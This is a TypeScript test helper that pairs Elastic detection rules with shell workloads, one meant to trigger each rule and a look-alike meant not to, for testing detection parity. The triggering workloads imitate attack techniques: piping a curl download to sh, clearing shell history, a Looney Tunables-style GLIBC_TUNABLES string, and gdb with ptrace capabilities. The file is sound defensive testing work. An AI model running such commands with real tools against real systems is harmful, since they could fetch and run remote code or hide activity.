// The 13 corpus rules issue 12 names (the 9 whose required fields eqld did not fill, and the 4
// that fired only when process.working_directory happened to be read from /proc), each with a
// workload that must fire it on the real kernel and a look-alike that must not. Shared by the
// real-kernel test, which records the documents as fixtures, and the fixture replay test.

import { runReplay } from '../../src/cli/replay.js';

type Doc = Record<string, unknown>;

/** alert rule ids when the rule runs over `docs` (eqld replay's library entry) */
export async function alertsOf(rulePath: string, docs: readonly Doc[] | string): Promise<string[]> {
  const out: string[] = [];
  const lines = typeof docs === 'string' ? docs.split('\n') : docs.map((d) => JSON.stringify(d));
  await runReplay([rulePath], undefined, { lines, out: (l) => out.push(l), err: () => undefined });
  return out
    .map((l) => JSON.parse(l) as { rule?: { id?: string }; kibana?: { alert?: { suppression?: unknown } } })
    .filter((a) => a.kibana?.alert?.suppression === undefined)
    .map((a) => a.rule?.id ?? '');
}

export interface Scenario {
  /** a short name: the fixtures are test/fixtures/parity/<slug>-{fire,quiet}.ndjson */
  slug: string;
  /** the rule file, below the shared corpus's elastic-detection-rules/ */
  rule: string;
  /** bash scripts; `$T` is a directory of program copies (see PROGRAMS) */
  fire: string;
  quiet: string;
}

/** copies made in $T: name -> what it is a copy of (the rules read process.name) */
export const PROGRAMS: Record<string, string> = {
  gdb: '/bin/true',
  kubectl: '/bin/true',
  runc: '/bin/true',
  curl: '/bin/true',
  'Runner.Worker': '/bin/bash',
  zoom: '/bin/bash',
  notzoom: '/bin/bash',
};

const NOBODY = 'setpriv --reuid=65534 --regid=65534 --clear-groups';
const PTRACE = `${NOBODY} --inh-caps=+sys_ptrace --ambient-caps=+sys_ptrace`;
const CONNECT_REFUSED = `/usr/bin/python3 -c "import socket; s = socket.socket(); s.connect_ex(('127.0.0.1', 9))"`;
const perlConnect = (addr: string) =>
  `perl -e 'use IO::Socket::INET; IO::Socket::INET->new(PeerAddr => "${addr}", Timeout => 1)'`;

export const SCENARIOS: readonly Scenario[] = [
  {
    slug: 'github-runner-tracking-id',
    rule: 'rules/cross-platform/execution_via_github_runner_with_runner_tracking_id_tampering_via_env_vars.toml',
    fire: `$T/Runner.Worker -c 'RUNNER_TRACKING_ID=tampered /bin/true; :'`,
    quiet: `$T/Runner.Worker -c 'RUNNER_TRACKING_ID=github_1234 /bin/true; :'`,
  },
  {
    slug: 'history-clearing-env',
    rule: 'rules/linux/defense_evasion_shell_history_clearing_via_environment_variables.toml',
    fire: 'HISTFILE=/dev/null /bin/true; :',
    quiet: 'HISTFILE=/tmp/eqld-history /bin/true; :',
  },
  {
    slug: 'looney-tunables',
    rule: 'rules/linux/privilege_escalation_looney_tunables_cve_2023_4911.toml',
    fire: 'for i in 1 2 3 4 5; do GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /bin/true; done',
    quiet: 'for i in 1 2 3 4 5; do GLIBC_TUNABLES=glibc.malloc.mxfast=1 /bin/true; done',
  },
  {
    slug: 'gdb-ptrace-elevation',
    rule: 'rules/linux/privilege_escalation_gdb_sys_ptrace_elevation.toml',
    fire: `${PTRACE} $T/gdb; /bin/true`,
    quiet: `${NOBODY} $T/gdb; /bin/true`,
  },
  {
    slug: 'gdb-ptrace-netcon',
    rule: 'rules/linux/privilege_escalation_gdb_sys_ptrace_netcon.toml',
    fire: `${PTRACE} $T/gdb; ${CONNECT_REFUSED}`,
    quiet: `${NOBODY} $T/gdb; ${CONNECT_REFUSED}`,
  },
  {
    slug: 'container-management-tool',
    rule: 'rules/linux/execution_container_management_binary_launched_inside_container.toml',
    fire: `script -qc "unshare -fpm --mount-proc $T/kubectl; :" /dev/null`,
    quiet: `script -qc "$T/kubectl; :" /dev/null`,
  },
  {
    slug: 'container-util-misconfiguration',
    rule: 'rules/linux/privilege_escalation_container_util_misconfiguration.toml',
    fire: `script -qc "${NOBODY} $T/runc run x; :" /dev/null`,
    quiet: `${NOBODY} $T/runc run x; :`,
  },
  {
    slug: 'hidden-file-in-tmp',
    rule: 'rules/linux/defense_evasion_hidden_file_dir_tmp.toml',
    fire: 'cd /tmp && touch .eqld-hidden-$$ && rm -f .eqld-hidden-$$',
    quiet: 'cd $T && touch .eqld-hidden-$$ && rm -f .eqld-hidden-$$',
  },
  {
    slug: 'multi-base64-decoding',
    rule: 'rules/linux/defense_evasion_multi_base64_decoding_attempt.toml',
    fire: 'cd $T && echo aGk= | base64 -d > /dev/null; echo aGk= | base64 -d > /dev/null',
    quiet: 'cd /usr && echo aGk= | base64 -d > /dev/null; echo aGk= | base64 -d > /dev/null',
  },
  {
    slug: 'curl-piped-to-shell',
    rule: 'rules/linux/execution_payload_downloaded_by_curl_wget_and_piped_to_interpreter.toml',
    fire: 'cd $T && $T/curl http://example.com/x.sh | sh',
    quiet: 'cd $T && $T/curl http://localhost/x.sh | sh',
  },
  {
    // the connect goes nowhere: a new network namespace with no interface up (ENETUNREACH)
    slug: 'interpreter-piped-to-interpreter',
    rule: 'rules/linux/execution_payload_downloaded_by_interpreter_and_piped_to_interpreter.toml',
    fire: `cd $T && unshare -n bash -c '${perlConnect('1.2.3.4:80').replaceAll("'", "'\\''")}; echo "1;" | perl'`,
    quiet: `cd $T && unshare -n bash -c '${perlConnect('127.0.0.1:9').replaceAll("'", "'\\''")}; echo "1;" | perl'`,
  },
  {
    slug: 'previous-image-zoom',
    rule: 'rules/cross-platform/execution_suspicious_process_execution_by_zoom.toml',
    fire: `$T/zoom -c 'exec /bin/true'`,
    quiet: `$T/notzoom -c 'exec /bin/true'`,
  },
  {
    slug: 'curl-socks-proxy-env',
    rule: 'rules/linux/command_and_control_curl_socks_proxy_detected.toml',
    fire: 'http_proxy=socks5h://127.0.0.1:9 $T/curl http://example.com/; :',
    quiet: 'http_proxy=http://127.0.0.1:9 $T/curl http://example.com/; :',
  },
];
